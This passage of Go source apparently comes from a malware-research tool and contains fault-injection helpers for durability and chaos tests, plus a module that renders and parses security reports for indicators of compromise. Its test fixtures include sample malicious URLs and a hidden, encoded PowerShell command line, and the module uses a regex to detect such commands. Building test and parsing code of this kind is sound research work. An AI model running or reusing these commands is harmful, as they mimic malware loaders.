			t.Fatalf("non-deterministic artifact at %d", i)
		}
	}
}
