// Package faultinject provides scriptable failpoints for the durability
// and chaos tests: a wal.FS wrapper that can fail (or tear) the Nth write
// and fail the Nth fsync, an http.RoundTripper that can fail the next N
// requests with either a transport error or a chosen status code, named
// code hooks the serve handlers fire so tests can stall or panic a request
// mid-flight, and a SlowReader that models a stalled slow-loris client
// body. The crash-matrix, retry and overload suites drive these to prove
// recovery, backoff and containment behaviour without touching real
// hardware fault paths.
package faultinject

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"

	"malgraph/internal/wal"
)

// ErrInjected marks every fault this package raises, so tests can assert
// the failure they saw was the one they scripted.
var ErrInjected = errors.New("faultinject: injected fault")

// FS wraps a wal.FS, counting writes and syncs across every file opened
// through it and failing the scripted ones.
type FS struct {
	mu    sync.Mutex
	inner wal.FS

	writes, syncs int // completed + failed so far

	failWriteAt int // 1-based write ordinal to fail; 0 = disabled
	tornBytes   int // bytes of the failed write to let through (torn record)
	failSyncAt  int // 1-based sync ordinal to fail; 0 = disabled
}

// NewFS wraps inner (the real filesystem when nil).
func NewFS(inner wal.FS) *FS {
	if inner == nil {
		inner = wal.OSFS()
	}
	return &FS{inner: inner}
}

// FailWrite schedules the nth future write (1-based from now) to fail
// after letting tornBytes of it reach the file — 0 tears the record off
// entirely, a positive value leaves a half-written record behind.
func (f *FS) FailWrite(nth, tornBytes int) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.failWriteAt = f.writes + nth
	f.tornBytes = tornBytes
}

// FailSync schedules the nth future fsync (1-based from now) to fail.
func (f *FS) FailSync(nth int) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.failSyncAt = f.syncs + nth
}

// Writes returns the number of file writes attempted so far.
func (f *FS) Writes() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.writes
}

// Syncs returns the number of file fsyncs attempted so far.
func (f *FS) Syncs() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.syncs
}

// MkdirAll implements wal.FS.
func (f *FS) MkdirAll(dir string) error { return f.inner.MkdirAll(dir) }

// SyncDir implements wal.FS.
func (f *FS) SyncDir(dir string) error { return f.inner.SyncDir(dir) }

// OpenFile implements wal.FS, wrapping the file with the failpoint hooks.
func (f *FS) OpenFile(name string) (wal.File, error) {
	inner, err := f.inner.OpenFile(name)
	if err != nil {
		return nil, err
	}
	return &file{fs: f, inner: inner}, nil
}

type file struct {
	fs    *FS
	inner wal.File
}

func (w *file) Write(p []byte) (int, error) {
	w.fs.mu.Lock()
	w.fs.writes++
	inject := w.fs.failWriteAt != 0 && w.fs.writes == w.fs.failWriteAt
	torn := w.fs.tornBytes
	w.fs.mu.Unlock()
	if inject {
		if torn > len(p) {
			torn = len(p)
		}
		if torn > 0 {
			// Let a prefix through: a torn record on disk, like power
			// loss mid-write.
			if _, err := w.inner.Write(p[:torn]); err != nil {
				return 0, err
			}
		}
		return torn, fmt.Errorf("%w: write %d torn after %d bytes", ErrInjected, w.fs.failWriteAt, torn)
	}
	return w.inner.Write(p)
}

func (w *file) Sync() error {
	w.fs.mu.Lock()
	w.fs.syncs++
	inject := w.fs.failSyncAt != 0 && w.fs.syncs == w.fs.failSyncAt
	n := w.fs.syncs
	w.fs.mu.Unlock()
	if inject {
		return fmt.Errorf("%w: sync %d failed", ErrInjected, n)
	}
	return w.inner.Sync()
}

func (w *file) Read(p []byte) (int, error)                { return w.inner.Read(p) }
func (w *file) Close() error                              { return w.inner.Close() }
func (w *file) Truncate(size int64) error                 { return w.inner.Truncate(size) }
func (w *file) Seek(off int64, whence int) (int64, error) { return w.inner.Seek(off, whence) }

var _ wal.FS = (*FS)(nil)

// Transport wraps an http.RoundTripper with an error-then-succeed
// failpoint: the next N matching requests fail, either with a transport
// error (status 0) or a synthesized HTTP response carrying the given
// status, then traffic flows through untouched.
type Transport struct {
	mu       sync.Mutex
	inner    http.RoundTripper
	failNext int
	status   int
	match    func(*http.Request) bool
	attempts int
	injected int
}

// NewTransport wraps inner (http.DefaultTransport when nil).
func NewTransport(inner http.RoundTripper) *Transport {
	if inner == nil {
		inner = http.DefaultTransport
	}
	return &Transport{inner: inner}
}

// FailNext makes the next n matching requests fail. status 0 raises a
// transport error; any other value answers with that HTTP status.
func (t *Transport) FailNext(n, status int) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.failNext = n
	t.status = status
}

// Match restricts the failpoint to requests the predicate accepts (all
// requests when unset).
func (t *Transport) Match(fn func(*http.Request) bool) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.match = fn
}

// Attempts returns how many matching requests were seen (failed or not).
func (t *Transport) Attempts() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.attempts
}

// Injected returns how many requests were failed by the failpoint.
func (t *Transport) Injected() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.injected
}

// RoundTrip implements http.RoundTripper.
func (t *Transport) RoundTrip(req *http.Request) (*http.Response, error) {
	t.mu.Lock()
	matched := t.match == nil || t.match(req)
	var inject bool
	var status int
	if matched {
		t.attempts++
		if t.failNext > 0 {
			t.failNext--
			t.injected++
			inject = true
			status = t.status
		}
	}
	t.mu.Unlock()
	if !matched || !inject {
		return t.inner.RoundTrip(req)
	}
	if status == 0 {
		return nil, fmt.Errorf("%w: transport error for %s", ErrInjected, req.URL)
	}
	return &http.Response{
		StatusCode: status,
		Status:     fmt.Sprintf("%d %s", status, http.StatusText(status)),
		Proto:      "HTTP/1.1", ProtoMajor: 1, ProtoMinor: 1,
		Header:  make(http.Header),
		Body:    io.NopCloser(strings.NewReader("injected fault")),
		Request: req,
	}, nil
}

var _ http.RoundTripper = (*Transport)(nil)

// Named hooks: production code calls Fire(name) at interesting points
// (e.g. serve's mutating handlers between admission and engine apply);
// tests register a function there — block on a channel to hold a request
// in flight, or panic to exercise containment. With nothing registered
// Fire is a single lock-free map load, cheap enough to leave compiled in.
var hooks sync.Map // name → func()

// SetHook registers fn to run at every Fire(name); nil unregisters. The
// previous registration (if any) is replaced.
func SetHook(name string, fn func()) {
	if fn == nil {
		hooks.Delete(name)
		return
	}
	hooks.Store(name, fn)
}

// Fire runs the hook registered under name, if any. Panics the hook
// raises propagate to the caller — that is the point.
func Fire(name string) {
	if fn, ok := hooks.Load(name); ok {
		fn.(func())()
	}
}

// SlowReader wraps r so every Read returns at most chunk bytes and sleeps
// delay first — a scriptable slow-loris client: the request body arrives,
// but so slowly that only server-side read deadlines can bound it.
func SlowReader(r io.Reader, chunk int, delay time.Duration) io.Reader {
	if chunk < 1 {
		chunk = 1
	}
	return &slowReader{r: r, chunk: chunk, delay: delay}
}

type slowReader struct {
	r     io.Reader
	chunk int
	delay time.Duration
}

func (s *slowReader) Read(p []byte) (int, error) {
	time.Sleep(s.delay)
	if len(p) > s.chunk {
		p = p[:s.chunk]
	}
	return s.r.Read(p)
}
