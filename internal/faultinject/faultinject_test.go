package faultinject

import (
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"time"
	"testing"

	"malgraph/internal/wal"
)

// TestFailedAppendLeavesJournalConsistent scripts a torn write under the
// WAL and verifies the failed append is rolled back: the journal stays
// usable, the sequence is not burned, and replay sees only intact records.
func TestFailedAppendLeavesJournalConsistent(t *testing.T) {
	for _, torn := range []int{0, 5} {
		fs := NewFS(nil)
		l, err := wal.Open(t.TempDir(), fs)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := l.Append("a", []byte("survives")); err != nil {
			t.Fatal(err)
		}
		fs.FailWrite(1, torn)
		if _, err := l.Append("a", []byte("torn away")); !errors.Is(err, ErrInjected) {
			t.Fatalf("torn=%d: append err = %v, want ErrInjected", torn, err)
		}
		// The journal must absorb the fault: next append succeeds and
		// takes the sequence the failed one never burned.
		seq, err := l.Append("a", []byte("after the fault"))
		if err != nil {
			t.Fatalf("torn=%d: append after fault: %v", torn, err)
		}
		if seq != 2 {
			t.Fatalf("torn=%d: seq = %d, want 2", torn, seq)
		}
		var kinds []uint64
		if err := l.Replay(0, func(r wal.Record) error {
			kinds = append(kinds, r.Seq)
			return nil
		}); err != nil {
			t.Fatalf("torn=%d: replay: %v", torn, err)
		}
		if len(kinds) != 2 || kinds[0] != 1 || kinds[1] != 2 {
			t.Fatalf("torn=%d: replayed seqs %v, want [1 2]", torn, kinds)
		}
		l.Close()
	}
}

// TestFailedSyncRollsBack mirrors the write-fault test for a failing
// fsync: the record reached the file but durability was never promised,
// so it must be rolled back, not replayed.
func TestFailedSyncRollsBack(t *testing.T) {
	fs := NewFS(nil)
	l, err := wal.Open(t.TempDir(), fs)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	fs.FailSync(1)
	if _, err := l.Append("a", []byte("unsynced")); !errors.Is(err, ErrInjected) {
		t.Fatalf("append err = %v, want ErrInjected", err)
	}
	seq, err := l.Append("a", []byte("good"))
	if err != nil || seq != 1 {
		t.Fatalf("append after sync fault: seq=%d err=%v, want seq=1", seq, err)
	}
	count := 0
	if err := l.Replay(0, func(wal.Record) error { count++; return nil }); err != nil {
		t.Fatal(err)
	}
	if count != 1 {
		t.Fatalf("replayed %d records, want 1 (unsynced record must not survive)", count)
	}
}

func TestTransportErrorThenSucceed(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("ok"))
	}))
	defer srv.Close()

	tr := NewTransport(nil)
	hc := &http.Client{Transport: tr}

	// Two transport errors, then the real server answers.
	tr.FailNext(2, 0)
	for i := 0; i < 2; i++ {
		if _, err := hc.Get(srv.URL); !errors.Is(err, ErrInjected) {
			t.Fatalf("request %d: err = %v, want ErrInjected", i, err)
		}
	}
	resp, err := hc.Get(srv.URL)
	if err != nil {
		t.Fatalf("third request must pass through: %v", err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "ok" {
		t.Fatalf("body = %q", body)
	}
	if tr.Attempts() != 3 || tr.Injected() != 2 {
		t.Fatalf("attempts=%d injected=%d, want 3/2", tr.Attempts(), tr.Injected())
	}
}

func TestTransportStatusInjection(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = w.Write([]byte("real"))
	}))
	defer srv.Close()

	tr := NewTransport(nil)
	tr.Match(func(r *http.Request) bool { return r.URL.Path == "/api/v1/package" })
	tr.FailNext(1, http.StatusServiceUnavailable)
	hc := &http.Client{Transport: tr}

	// Non-matching path sails through untouched.
	resp, err := hc.Get(srv.URL + "/api/v1/info")
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("unmatched request: %v status=%v", err, resp)
	}
	resp.Body.Close()

	resp, err = hc.Get(srv.URL + "/api/v1/package")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("status = %d, want 503", resp.StatusCode)
	}

	resp, err = hc.Get(srv.URL + "/api/v1/package")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "real" {
		t.Fatalf("second matching request must pass through, got %q", body)
	}
	if tr.Attempts() != 2 {
		t.Fatalf("matched attempts = %d, want 2", tr.Attempts())
	}
}

// TestHooksFireAndClear pins the named-hook contract: unset hooks are
// no-ops, a registered hook runs on every Fire, panics propagate, and nil
// unregisters.
func TestHooksFireAndClear(t *testing.T) {
	Fire("chaos.test.unset") // must not panic

	calls := 0
	SetHook("chaos.test.count", func() { calls++ })
	Fire("chaos.test.count")
	Fire("chaos.test.count")
	if calls != 2 {
		t.Fatalf("hook ran %d times, want 2", calls)
	}
	SetHook("chaos.test.count", nil)
	Fire("chaos.test.count")
	if calls != 2 {
		t.Fatalf("cleared hook still ran (%d calls)", calls)
	}

	SetHook("chaos.test.panic", func() { panic("boom") })
	defer SetHook("chaos.test.panic", nil)
	defer func() {
		if r := recover(); r != "boom" {
			t.Fatalf("recovered %v, want the hook's panic", r)
		}
	}()
	Fire("chaos.test.panic")
	t.Fatal("hook panic did not propagate")
}

// TestSlowReaderPacesDelivery verifies the slow-loris body model: content
// arrives complete but in delayed chunk-sized pieces.
func TestSlowReaderPacesDelivery(t *testing.T) {
	const body = "0123456789"
	r := SlowReader(strings.NewReader(body), 3, time.Millisecond)
	start := time.Now()
	got, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != body {
		t.Fatalf("read %q, want %q", got, body)
	}
	// 10 bytes at ≤3/read is ≥4 reads, each sleeping ≥1ms.
	if elapsed := time.Since(start); elapsed < 4*time.Millisecond {
		t.Fatalf("delivery took %v, want the per-chunk delays to add up", elapsed)
	}
}
