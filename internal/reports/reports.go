// Package reports models security analysis reports — the co-existing-edge
// evidence of §III-D and the malware-context source of RQ4. A report page
// names one or more malicious packages and may disclose indicators of
// compromise (IoCs): suspicious IPs, malicious URLs/domains, and PowerShell
// commands. Rendering produces the natural-language page body a crawler
// fetches; Extract* functions perform the inverse parse, including the
// defanging conventions (hxxp, [.]) real reports use.
package reports

import (
	"fmt"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/xrand"
)

// Category classifies the publishing website (Table III).
type Category int

// Website categories of Table III.
const (
	CategoryTechnicalCommunity Category = iota + 1
	CategoryCommercial
	CategoryNews
	CategoryIndividual
	CategoryOfficial
	CategoryOther
)

var categoryNames = map[Category]string{
	CategoryTechnicalCommunity: "Technical Community",
	CategoryCommercial:         "Commercial org.",
	CategoryNews:               "News",
	CategoryIndividual:         "Individual",
	CategoryOfficial:           "Official",
	CategoryOther:              "Other",
}

// String names the category as in Table III.
func (c Category) String() string {
	if s, ok := categoryNames[c]; ok {
		return s
	}
	return fmt.Sprintf("Category(%d)", int(c))
}

// AllCategories lists the Table III categories in order.
func AllCategories() []Category {
	return []Category{
		CategoryTechnicalCommunity, CategoryCommercial, CategoryNews,
		CategoryIndividual, CategoryOfficial, CategoryOther,
	}
}

// IoCSet bundles the three IoC types the paper counts (§V-D: 1,449 URLs,
// 234 IPs, 4 PowerShell commands).
type IoCSet struct {
	IPs        []string
	URLs       []string
	PowerShell []string
}

// Merge returns the union of two sets with duplicates removed.
func (s IoCSet) Merge(o IoCSet) IoCSet {
	return IoCSet{
		IPs:        dedupe(append(append([]string(nil), s.IPs...), o.IPs...)),
		URLs:       dedupe(append(append([]string(nil), s.URLs...), o.URLs...)),
		PowerShell: dedupe(append(append([]string(nil), s.PowerShell...), o.PowerShell...)),
	}
}

func dedupe(in []string) []string {
	seen := make(map[string]bool, len(in))
	out := in[:0]
	for _, v := range in {
		if !seen[v] {
			seen[v] = true
			out = append(out, v)
		}
	}
	sort.Strings(out)
	return out
}

// Report is one security analysis report.
type Report struct {
	URL      string
	Site     string
	Category Category
	Title    string
	Body     string
	Packages []ecosys.Coord // packages the report names
	IoCs     IoCSet
	// PublishedAt is when the report was published (as disclosed by the
	// page); FetchedAt is when the crawler retrieved it. The two used to be
	// conflated — FromPage stamped PublishedAt with the crawl instant, so
	// report-timeline ordering shifted with crawl scheduling.
	PublishedAt time.Time
	FetchedAt   time.Time `json:",omitzero"`
}

// Render builds the natural-language body for a report naming the given
// packages with the given IoCs. The produced text follows the structure the
// paper describes for analysis webpages: a publication dateline (when
// publishedAt is non-zero), discovery context, behaviours, package
// names/versions, and IoCs — partially defanged like real reports.
func Render(rng *xrand.RNG, title string, publishedAt time.Time, eco ecosys.Ecosystem, pkgs []ecosys.Coord, iocs IoCSet, behaviors []string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%s\n\n", title)
	if !publishedAt.IsZero() {
		fmt.Fprintf(&b, "Published: %s\n\n", publishedAt.UTC().Format("2006-01-02"))
	}
	intro := []string{
		"Our automated scanning pipeline flagged a new wave of malicious uploads",
		"During routine monitoring of new releases we identified suspicious packages",
		"A researcher reported unusual install-time behaviour, leading us to",
	}
	fmt.Fprintf(&b, "%s in the %s registry.\n\n", xrand.Pick(rng, intro), eco)
	if len(behaviors) > 0 {
		fmt.Fprintf(&b, "Observed behaviours: %s.\n\n", strings.Join(behaviors, ", "))
	}
	for _, p := range pkgs {
		fmt.Fprintf(&b, "We discovered the package `%s` version `%s` in the %s registry.\n", p.Name, p.Version, p.Ecosystem)
	}
	if len(iocs.IPs)+len(iocs.URLs)+len(iocs.PowerShell) > 0 {
		b.WriteString("\nIndicators of Compromise:\n")
		for i, ip := range iocs.IPs {
			if i%2 == 0 {
				fmt.Fprintf(&b, "  IP: %s\n", Defang(ip))
			} else {
				fmt.Fprintf(&b, "  IP: %s\n", ip)
			}
		}
		for i, u := range iocs.URLs {
			if i%2 == 0 {
				fmt.Fprintf(&b, "  URL: %s\n", Defang(u))
			} else {
				fmt.Fprintf(&b, "  URL: %s\n", u)
			}
		}
		for _, ps := range iocs.PowerShell {
			fmt.Fprintf(&b, "  CMD: %s\n", ps)
		}
	}
	b.WriteString("\nWe notified the registry administrators and the packages have been removed.\n")
	return b.String()
}

// Defang rewrites an indicator into the publication-safe form security
// vendors use: http→hxxp and the last dot bracketed.
func Defang(indicator string) string {
	out := strings.Replace(indicator, "http", "hxxp", 1)
	if i := strings.LastIndex(out, "."); i > 0 {
		out = out[:i] + "[.]" + out[i+1:]
	}
	return out
}

// Refang reverses Defang.
func Refang(indicator string) string {
	out := strings.Replace(indicator, "hxxp", "http", 1)
	out = strings.ReplaceAll(out, "[.]", ".")
	return out
}

var (
	pkgMentionRe = regexp.MustCompile("package `([\\w.@/-]+)` version `([\\w.-]+)` in the (\\w+) registry")
	ipRe         = regexp.MustCompile(`\b(\d{1,3})\.(\d{1,3})\.(\d{1,3})[.\[\]]{1,3}(\d{1,3})\b`)
	urlRe        = regexp.MustCompile(`h(?:xx|tt)ps?://[^\s"'<>\)]+`)
	// A PowerShell IoC is a command line (powershell followed by flags),
	// not merely prose mentioning PowerShell behaviour.
	psRe        = regexp.MustCompile(`(?i)powershell\s+-[^\n]+`)
	behaviorRe  = regexp.MustCompile(`Observed behaviours: ([^.\n]+)\.`)
	publishedRe = regexp.MustCompile(`(?m)^Published: (\d{4}-\d{2}-\d{2})$`)
)

// ExtractPublishedAt parses the publication dateline out of a report body.
// ok=false when the page discloses no date (older pages, external documents);
// callers then fall back to the crawl instant.
func ExtractPublishedAt(body string) (time.Time, bool) {
	m := publishedRe.FindStringSubmatch(body)
	if m == nil {
		return time.Time{}, false
	}
	t, err := time.Parse("2006-01-02", m[1])
	if err != nil {
		return time.Time{}, false
	}
	return t, true
}

// ExtractBehaviors parses the behaviour summary line out of a report body
// (§VI-B path 1: "if the malware is reported by online sources, we use the
// security report content to represent its behaviours").
func ExtractBehaviors(body string) []string {
	m := behaviorRe.FindStringSubmatch(body)
	if m == nil {
		return nil
	}
	var out []string
	for _, part := range strings.Split(m[1], ",") {
		part = strings.TrimSpace(part)
		if part != "" {
			out = append(out, part)
		}
	}
	return out
}

// ExtractPackages parses package mentions out of a report body.
func ExtractPackages(body string) []ecosys.Coord {
	var out []ecosys.Coord
	for _, m := range pkgMentionRe.FindAllStringSubmatch(body, -1) {
		eco := ecosystemByName(m[3])
		if eco == 0 {
			continue
		}
		out = append(out, ecosys.Coord{Ecosystem: eco, Name: m[1], Version: m[2]})
	}
	return out
}

func ecosystemByName(name string) ecosys.Ecosystem {
	for _, e := range ecosys.All() {
		if strings.EqualFold(e.String(), name) {
			return e
		}
	}
	return 0
}

// ExtractIoCs parses the IoC indicators out of a report body, refanging
// defanged forms and deduplicating.
func ExtractIoCs(body string) IoCSet {
	var set IoCSet
	for _, m := range ipRe.FindAllString(body, -1) {
		ip := Refang(m)
		if validIP(ip) {
			set.IPs = append(set.IPs, ip)
		}
	}
	for _, m := range urlRe.FindAllString(body, -1) {
		u := strings.TrimRight(Refang(m), ".,;")
		if _, err := url.Parse(u); err == nil {
			set.URLs = append(set.URLs, u)
		}
	}
	for _, m := range psRe.FindAllString(body, -1) {
		set.PowerShell = append(set.PowerShell, strings.TrimSpace(m))
	}
	set.IPs = dedupe(set.IPs)
	set.URLs = dedupe(set.URLs)
	set.PowerShell = dedupe(set.PowerShell)
	return set
}

func validIP(s string) bool {
	parts := strings.Split(s, ".")
	if len(parts) != 4 {
		return false
	}
	for _, p := range parts {
		if len(p) == 0 || len(p) > 3 {
			return false
		}
		n := 0
		for _, r := range p {
			if r < '0' || r > '9' {
				return false
			}
			n = n*10 + int(r-'0')
		}
		if n > 255 {
			return false
		}
	}
	return true
}

// Domain extracts the host portion of a URL indicator ("https://x.y/z" → "x.y").
func Domain(rawURL string) string {
	u, err := url.Parse(rawURL)
	if err != nil || u.Host == "" {
		// Fall back to manual slicing for scheme-less indicators.
		s := rawURL
		if i := strings.Index(s, "://"); i >= 0 {
			s = s[i+3:]
		}
		if i := strings.IndexAny(s, "/?#"); i >= 0 {
			s = s[:i]
		}
		return s
	}
	return u.Hostname()
}

// TopDomains counts URL indicators by domain and returns the top n as
// (domain, count) pairs sorted by descending count — Fig. 14.
func TopDomains(urls []string, n int) []DomainCount {
	counts := make(map[string]int)
	for _, u := range urls {
		if d := Domain(u); d != "" {
			counts[d]++
		}
	}
	out := make([]DomainCount, 0, len(counts))
	for d, c := range counts {
		out = append(out, DomainCount{Domain: d, Count: c})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		return out[i].Domain < out[j].Domain
	})
	if n > 0 && len(out) > n {
		out = out[:n]
	}
	return out
}

// DomainCount is one Fig. 14 bar.
type DomainCount struct {
	Domain string `json:"domain"`
	Count  int    `json:"count"`
}
