package reports

import (
	"strings"
	"testing"
	"testing/quick"
	"time"

	"malgraph/internal/ecosys"
	"malgraph/internal/webworld"
	"malgraph/internal/xrand"
)

func samplePkgs() []ecosys.Coord {
	return []ecosys.Coord{
		{Ecosystem: ecosys.PyPI, Name: "colorslib", Version: "4.6.11"},
		{Ecosystem: ecosys.PyPI, Name: "httpslib", Version: "4.6.9"},
		{Ecosystem: ecosys.PyPI, Name: "libhttps", Version: "4.6.12"},
	}
}

func sampleIoCs() IoCSet {
	return IoCSet{
		IPs:        []string{"46.226.1.2", "51.178.3.4"},
		URLs:       []string{"https://bananasquad.ru/grab", "http://kekwltd.ru/x/payload.exe"},
		PowerShell: []string{"powershell -WindowStyle Hidden -EncodedCommand SQBFAFgA"},
	}
}

func TestRenderAndExtractRoundTrip(t *testing.T) {
	rng := xrand.New(1)
	published := time.Date(2023, 1, 16, 9, 30, 0, 0, time.UTC)
	body := Render(rng, "Malicious Lolip0p packages on PyPI", published, ecosys.PyPI, samplePkgs(), sampleIoCs(), []string{"info stealing"})

	pkgs := ExtractPackages(body)
	if len(pkgs) != 3 {
		t.Fatalf("extracted %d packages, want 3: %v", len(pkgs), pkgs)
	}
	for i, want := range samplePkgs() {
		if pkgs[i] != want {
			t.Fatalf("package %d = %v, want %v", i, pkgs[i], want)
		}
	}

	iocs := ExtractIoCs(body)
	if len(iocs.IPs) != 2 {
		t.Fatalf("IPs = %v", iocs.IPs)
	}
	if len(iocs.URLs) != 2 {
		t.Fatalf("URLs = %v", iocs.URLs)
	}
	if len(iocs.PowerShell) != 1 {
		t.Fatalf("PowerShell = %v", iocs.PowerShell)
	}
	for _, ip := range iocs.IPs {
		if strings.Contains(ip, "[") {
			t.Fatalf("IP not refanged: %s", ip)
		}
	}
	for _, u := range iocs.URLs {
		if strings.Contains(u, "hxxp") || strings.Contains(u, "[.]") {
			t.Fatalf("URL not refanged: %s", u)
		}
	}

	got, ok := ExtractPublishedAt(body)
	if !ok {
		t.Fatal("rendered dateline not extracted")
	}
	if want := time.Date(2023, 1, 16, 0, 0, 0, 0, time.UTC); !got.Equal(want) {
		t.Fatalf("published = %v, want %v", got, want)
	}
}

// TestFromPageSeparatesPublishedFromFetched is the regression test for the
// publication/crawl-time conflation: a page disclosing a dateline must keep
// its published date whatever instant the crawler fetched it, and only pages
// without a dateline fall back to the crawl instant.
func TestFromPageSeparatesPublishedFromFetched(t *testing.T) {
	published := time.Date(2023, 1, 16, 0, 0, 0, 0, time.UTC)
	fetched := time.Date(2024, 6, 1, 12, 0, 0, 0, time.UTC)
	body := Render(xrand.New(1), "Malicious packages", published, ecosys.PyPI, samplePkgs(), IoCSet{}, nil)
	rep, ok := FromPage(&webworld.Page{URL: "https://s/r1", Site: "s", Title: "t", Body: body}, fetched)
	if !ok {
		t.Fatal("report page rejected")
	}
	if !rep.PublishedAt.Equal(published) {
		t.Fatalf("PublishedAt = %v, want the page's dateline %v", rep.PublishedAt, published)
	}
	if !rep.FetchedAt.Equal(fetched) {
		t.Fatalf("FetchedAt = %v, want crawl instant %v", rep.FetchedAt, fetched)
	}

	// Re-crawling the same page later must not move its publication date.
	later := fetched.AddDate(0, 3, 0)
	rep2, _ := FromPage(&webworld.Page{URL: "https://s/r1", Site: "s", Title: "t", Body: body}, later)
	if !rep2.PublishedAt.Equal(published) {
		t.Fatalf("re-crawl moved PublishedAt to %v", rep2.PublishedAt)
	}

	// No dateline: fall back to the crawl instant, recorded in both fields.
	noDate := Render(xrand.New(1), "Malicious packages", time.Time{}, ecosys.PyPI, samplePkgs(), IoCSet{}, nil)
	if _, ok := ExtractPublishedAt(noDate); ok {
		t.Fatal("dateline extracted from a page without one")
	}
	rep3, _ := FromPage(&webworld.Page{URL: "https://s/r2", Site: "s", Title: "t", Body: noDate}, fetched)
	if !rep3.PublishedAt.Equal(fetched) || !rep3.FetchedAt.Equal(fetched) {
		t.Fatalf("fallback: published %v fetched %v, want both %v", rep3.PublishedAt, rep3.FetchedAt, fetched)
	}
}

func TestDefangRefangRoundTrip(t *testing.T) {
	cases := []string{
		"https://bananasquad.ru/grab",
		"http://1.2.3.4/payload",
		"46.226.1.2",
	}
	for _, in := range cases {
		d := Defang(in)
		if d == in {
			t.Fatalf("Defang(%q) unchanged", in)
		}
		if got := Refang(d); got != in {
			t.Fatalf("Refang(Defang(%q)) = %q", in, got)
		}
	}
}

func TestDefangProperty(t *testing.T) {
	rng := xrand.New(2)
	f := func(_ uint8) bool {
		ioc := "https://example" + string(rune('a'+rng.Intn(26))) + ".ru/path"
		return Refang(Defang(ioc)) == ioc
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestExtractIoCsRejectsInvalidIPs(t *testing.T) {
	body := "IP: 999.1.1.1 and version 1.2.3.4 of something, IP: 10.0.0[.]5"
	set := ExtractIoCs(body)
	for _, ip := range set.IPs {
		if ip == "999.1.1.1" {
			t.Fatal("invalid IP accepted")
		}
	}
	found := false
	for _, ip := range set.IPs {
		if ip == "10.0.0.5" {
			found = true
		}
	}
	if !found {
		t.Fatalf("defanged IP not recovered: %v", set.IPs)
	}
}

func TestExtractPackagesIgnoresUnknownEcosystem(t *testing.T) {
	body := "We discovered the package `x` version `1` in the FooBar registry.\n"
	if got := ExtractPackages(body); len(got) != 0 {
		t.Fatalf("unknown ecosystem accepted: %v", got)
	}
}

func TestIoCSetMerge(t *testing.T) {
	a := IoCSet{IPs: []string{"1.1.1.1"}, URLs: []string{"https://a/x"}}
	b := IoCSet{IPs: []string{"1.1.1.1", "2.2.2.2"}, PowerShell: []string{"powershell -enc x"}}
	m := a.Merge(b)
	if len(m.IPs) != 2 || len(m.URLs) != 1 || len(m.PowerShell) != 1 {
		t.Fatalf("merge = %+v", m)
	}
}

func TestDomain(t *testing.T) {
	cases := map[string]string{
		"https://bananasquad.ru/grab/x":   "bananasquad.ru",
		"http://cdn.discordapp.com/a?b=c": "cdn.discordapp.com",
		"transfer.sh/abc":                 "transfer.sh",
	}
	for in, want := range cases {
		if got := Domain(in); got != want {
			t.Errorf("Domain(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestTopDomains(t *testing.T) {
	urls := []string{
		"https://bananasquad.ru/1", "https://bananasquad.ru/2", "https://bananasquad.ru/3",
		"https://kekwltd.ru/1", "https://kekwltd.ru/2",
		"https://transfer.sh/1",
	}
	top := TopDomains(urls, 2)
	if len(top) != 2 {
		t.Fatalf("top = %v", top)
	}
	if top[0].Domain != "bananasquad.ru" || top[0].Count != 3 {
		t.Fatalf("top[0] = %v", top[0])
	}
	if top[1].Domain != "kekwltd.ru" || top[1].Count != 2 {
		t.Fatalf("top[1] = %v", top[1])
	}
}

func TestTopDomainsDeterministicTieBreak(t *testing.T) {
	urls := []string{"https://b.ru/1", "https://a.ru/1"}
	top := TopDomains(urls, 0)
	if top[0].Domain != "a.ru" {
		t.Fatalf("tie break not lexicographic: %v", top)
	}
}

func TestCategoryString(t *testing.T) {
	if CategoryCommercial.String() != "Commercial org." {
		t.Fatal("category name wrong")
	}
	if len(AllCategories()) != 6 {
		t.Fatal("Table III has 6 categories")
	}
}
