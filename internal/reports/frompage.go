package reports

import (
	"time"

	"malgraph/internal/webworld"
)

// FromPage parses a crawled web page into a Report by extracting package
// mentions and IoCs from its body — the §III-D path from raw crawl output to
// structured report corpus. Pages naming no packages yield ok=false (they
// are not analysis reports even if topically relevant).
//
// fetchedAt is the crawl instant and is recorded as FetchedAt only.
// PublishedAt comes from the page's publication dateline when it discloses
// one; pages without a dateline fall back to the crawl instant (the best
// available bound), but never the other way around — publication time and
// crawl time are distinct, and conflating them made report-timeline ordering
// a function of crawl scheduling.
func FromPage(p *webworld.Page, fetchedAt time.Time) (*Report, bool) {
	pkgs := ExtractPackages(p.Body)
	if len(pkgs) == 0 {
		return nil, false
	}
	publishedAt, ok := ExtractPublishedAt(p.Body)
	if !ok {
		publishedAt = fetchedAt
	}
	return &Report{
		URL:         p.URL,
		Site:        p.Site,
		Title:       p.Title,
		Body:        p.Body,
		Packages:    pkgs,
